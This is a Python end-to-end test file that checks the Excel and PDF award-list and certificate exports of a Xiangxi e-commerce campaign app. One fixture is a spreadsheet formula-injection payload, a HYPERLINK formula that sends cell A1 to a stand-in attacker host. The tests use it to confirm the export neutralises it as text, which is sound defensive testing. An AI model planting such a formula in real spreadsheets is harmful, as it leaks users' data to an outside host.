"""Exports a leader is handed, downloaded from the running app's API and console: the campaign's
name in titles and file names, numbers as numbers, county and enterprise columns from the registry,
a host named like a formula stored as text, and certificates for a 40-character campaign and a
20-character enterprise checked from the PDF itself.

The lists are stored as the campaign selection stores them (configstore.awards.save_computed with
the lines and params of services.awards.compute_selection), so these tests are about the exports."""
from __future__ import annotations

import io
import re
from datetime import date
from urllib.parse import quote, unquote

import pytest
from openpyxl import load_workbook

from configstore import awards as award_store
from configstore import registry
from configstore.participants_import import import_participants
from tests.unit.pdf_checks import glyphless_characters, page_facts, pdffonts

pytestmark = pytest.mark.e2e

CAMPAIGN = "千村千红·湘西香伴——湘西州农产品直播带货暨乡村振兴电商消费帮扶行动季（第二届）"
ENTERPRISE = "湘西自治州龙山县百合农业科技开发有限公司"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
SLUG = "qcqh-xxxb-2026"


def _disposition(response) -> tuple[str, str]:
    """(ASCII fallback, UTF-8 name) from an RFC 6266 Content-Disposition header."""
    header = response.headers["Content-Disposition"]
    assert header.startswith('attachment; filename="')
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    encoded = header.split("; filename*=UTF-8''", 1)[1]
    assert encoded.isascii() and encoded == quote(unquote(encoded), safe="")
    return fallback, unquote(encoded)


def _setup(org):
    stack = org.stack
    assert (len(CAMPAIGN), len(ENTERPRISE)) == (40, 20)
    registry.upsert_campaign(stack.sessions, slug=SLUG, name=CAMPAIGN, first_day=date(2026, 11, 1),
                             last_day=date(2026, 11, 30))
    rows = [{"kind": "enterprise", "id": "E1", "name": ENTERPRISE, "county": "433130"},
            {"kind": "enterprise", "id": "E2", "name": "古丈茶业", "county": "433126"},
            {"kind": "host", "id": "H1", "name": "苗家阿妹", "county": "433123", "accounts": "douyin:dy1",
             "enterprises": "E1;E2"},
            {"kind": "host", "id": "H2", "name": EVIL, "county": "433101", "accounts": "douyin:dy2"}]
    assert import_participants(stack.sessions, rows).bad_rows == 0


def _store_selection(org, kind: str, label: str, winners: list[tuple[str, str, int]]) -> dict:
    lines = [{"participant_id": pid, "name": name, "category": label, "amount_fen": 0, "metric_fen": net,
              "detail": {"place": place, "board_rank": place, "order_count": 1}}
             for place, (pid, name, net) in enumerate(winners, start=1)]
    params = {"min_net_gmv_fen": 0, "min_order_count": 0, "campaign_name": "旧活动名称", "first_day": "2026-11-01",
              "last_day": "2026-11-30", "ineligible": []}
    return award_store.save_computed(org.stack.sessions, kind=kind, scope="campaign", scope_key=SLUG, items=lines,
                                     params=params)


def test_campaign_list_and_certificates_from_api_and_console(org, tmp_path):
    _setup(org)
    hosts = _store_selection(org, "top_influencers", "十大电商达人",
                             [("H1", "苗家阿妹", 57_095_400), ("H2", EVIL, 1_234_500)])
    enterprises = _store_selection(org, "top_enterprises", "十佳电商企业",
                                   [("E1", ENTERPRISE, 57_095_400), ("E2", "古丈茶业", 1_234_500)])
    console = org.console("viewer-user")
    page = console.get(f"{org.base_url}/console/awards/{hosts['id']}", timeout=30).text
    assert f"<h2>“{CAMPAIGN}”十大电商达人名单 · 第 1 版 · 草稿</h2>" in page and SLUG not in page.split("<h2>", 1)[1][:200]

    for response in (org.api("GET", f"/awards/{hosts['id']}/export.xlsx", role="viewer"),
                     console.get(f"{org.base_url}/console/awards/{hosts['id']}/export.xlsx", timeout=30)):
        assert response.status_code == 200
        assert _disposition(response) == (f"award-list-{hosts['id']}-v1.xlsx",
                                          f"{CAMPAIGN}-十大电商达人名单-第1版-草稿.xlsx")
        wb = load_workbook(io.BytesIO(response.content))
        ws = wb["获奖名单"]
        assert ws["A1"].value == f"“{CAMPAIGN}”十大电商达人名单（第 1 版）" and SLUG not in ws["A1"].value
        assert ws["A2"].value.startswith("名单状态：草稿")
        assert [c.value for c in ws[3]][4:8] == ["县市", "所属企业", "奖励金额（元）", "净成交额（万元）"]
        first, second = ws[4], ws[5]
        assert [c.value for c in first[:6]] == [1, "H1", "苗家阿妹", "十大电商达人", "凤凰县",
                                                f"{ENTERPRISE}、古丈茶业"]
        assert first[7].data_type == "n" and first[7].value == pytest.approx(57.0954)
        assert first[7].number_format == "#,##0.00"
        assert second[2].data_type == "s" and second[2].value == "'" + EVIL and second[4].value == "吉首市"
        assert all(c.data_type in ("n", "s") for row in ws.iter_rows() for c in row if c.value is not None)
        assert ws.freeze_panes == "A4" and ws.print_title_rows == "$3:$3"
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.orientation == "landscape"

    listing = load_workbook(io.BytesIO(org.api("GET", f"/awards/{enterprises['id']}/export.xlsx").content)).active
    assert [c.value for c in listing[4]][2:5] == [ENTERPRISE, "十佳电商企业", "龙山县"]

    for response in (org.api("GET", f"/awards/{enterprises['id']}/certificates/E1.pdf", role="viewer"),
                     console.get(f"{org.base_url}/console/awards/{enterprises['id']}/certificates/E1.pdf",
                                 timeout=30)):
        assert response.status_code == 200 and response.headers["Content-Type"] == "application/pdf"
        assert _disposition(response) == (f"certificate-{enterprises['id']}-E1.pdf",
                                          f"十佳电商企业荣誉证书-{ENTERPRISE}-E1（样稿）.pdf")
        facts = page_facts(response.content)
        assert facts.chars_outside_frame() == []
        assert f"在“{CAMPAIGN}”活动中荣获“十佳电商企业”称号。" in facts.text and f"{ENTERPRISE}：" in facts.text
        assert "样稿" in facts.text and "湘西土家族苗族自治州商务局" in facts.text
        assert all(f["emb"] == "yes" for f in pdffonts(response.content))
        assert glyphless_characters(response.content) == {}

    host_pdf = org.api("GET", f"/awards/{hosts['id']}/certificates/H2.pdf", role="viewer")
    assert host_pdf.status_code == 200 and EVIL + "：" in page_facts(host_pdf.content).text


def test_a_certificate_that_cannot_be_printed_is_refused_with_the_reason(org):
    _setup(org)
    hosts = _store_selection(org, "top_influencers", "十大电商达人", [("H1", "苗家阿妹", 57_095_400)])
    adjusted = org.api("POST", f"/awards/{hosts['id']}/adjustments",
                       json={"participant_id": "H1", "name": "苗家𠅤妹", "reason": "更正姓名"})
    assert adjusted.status_code == 201, adjusted.text
    refused = org.api("GET", f"/awards/{hosts['id']}/certificates/H1.pdf", role="viewer")
    assert refused.status_code == 409
    assert refused.json()["error"]["code"] == "certificate_unavailable"
    assert "U+20164" in refused.json()["error"]["message"]
    page = org.console("viewer-user").get(f"{org.base_url}/console/awards/{hosts['id']}/certificates/H1.pdf",
                                          timeout=30)
    assert page.status_code == 409 and "无法生成证书" in page.text and "U+20164" in page.text


def test_milestone_export_shows_ledger_money_review_flags_pending_verification_and_beijing_times(org):
    """What a leader reads in version 2 of the S8 year: the 50,000 is already in the ledger (nothing new
    to pay), the line is to be reviewed, E2 waits for its tax status, the previous year's assumption is
    stated, and review times are Beijing time."""
    from domain.money import wan_yuan
    from services.spreadsheets import beijing_minute
    from tests.e2e.awards.test_awards import at, compute, paid, post_and_drain, refund, walk_to_final

    stack = org.stack
    assert import_participants(stack.sessions, [
        {"kind": "enterprise", "id": "S8", "name": "湘西S8电商", "county": "433101", "依法纳税(2023)": "是"},
        {"kind": "enterprise", "id": "E2", "name": "泸溪椪柑", "county": "433122"}]).bad_rows == 0
    post_and_drain(stack, [paid("qcqh-2023", "S8", wan_yuan(1000) + 100, at(2023, 5, 1), order_id="s8"),
                           paid("qcqh-2023", "E2", wan_yuan(1200), at(2023, 5, 1), order_id="e2")])
    v1 = compute(org, kind="sales_milestone", scope="year", scope_key="2023")
    walk_to_final(org, v1["id"])
    post_and_drain(stack, [refund("qcqh-2023", "S8", wan_yuan(100) + 100, at(2023, 12, 1), order_id="s8")])
    v2 = compute(org, kind="sales_milestone", scope="year", scope_key="2023")
    review = org.api("POST", f"/awards/{v2['id']}/reviews", role="operator",
                     json={"participant_id": "S8", "step": "county_prereview", "decision": "approved", "note": "复核"})
    assert review.status_code == 201, review.text
    reviewed_at = org.api("GET", f"/awards/{v2['id']}").json()["items"][0]["reviews"][0]["at"]

    response = org.api("GET", f"/awards/{v2['id']}/export.xlsx", role="viewer")
    assert _disposition(response)[1] == "2023年度-电商企业年度销售额首次突破奖励名单-第2版-草稿.xlsx"
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["获奖名单", "未入选及原因", "计算说明与复核"]
    ws = wb["获奖名单"]
    assert [c.value for c in ws[3]] == ["序号", "编号", "名称", "奖项类别", "县市", "奖励金额（元）", "其中本版新增（元）",
                                        "年度销售额（万元）", "状态", "奖励台账与复核", "调整原因", "评审记录"]
    line, totals = [c for c in ws[4]], [c for c in ws[5]]
    assert [c.value for c in line[:9]] == [1, "S8", "湘西S8电商", "突破1000万元", "吉首市", 50000, 0, 900, "入选"]
    assert [c.value for c in totals[5:7]] == [50000, 0]
    assert all(c.data_type == "n" and c.number_format == "#,##0.00" for c in line[5:8] + totals[5:7])
    assert line[9].value == (
        "已记入台账：2023 电商企业年度销售额首次突破奖励第 1 版，待支付，50,000.00元\n"
        "复核：退款后2023年度销售额为9,000,000.00元，未突破1000万元（该档已奖励50,000.00元，已记入奖励台账：2023 "
        "电商企业年度销售额首次突破奖励第 1 版），请复核；台账记录保留，不因重新计算删除")
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", beijing_minute(reviewed_at))
    assert line[11].value == f"县市区初审：通过（operator-user，{beijing_minute(reviewed_at)}）"

    left = wb["未入选及原因"]
    assert left.freeze_panes == "A4"
    assert [c.value for c in left[4]] == [
        "E2", "泸溪椪柑", "待核实", "泸溪县", 1200,
        "年度销售额12,000,000.00元，突破1000万元，但2023年度纳税状态未核实：待核实后重新计算；缺少：2023年度依法纳税核实结果"]
    notes = wb["计算说明与复核"]
    assert notes["A1"].value == "2023 年度电商企业年度销售额首次突破奖励名单：计算说明与复核"
    assert [[c.value for c in row] for row in notes.iter_rows(min_row=4)] == [
        ["计算说明", None, None, None, v2["params"]["warnings"][0]],
        ["需复核（台账保留）", "S8", "湘西S8电商", 2023, v2["params"]["review_flags"][0]["reason"]]]
    assert v2["params"]["warnings"][0].startswith("2022 年度的销售额奖励名单尚未定稿（尚未计算）")
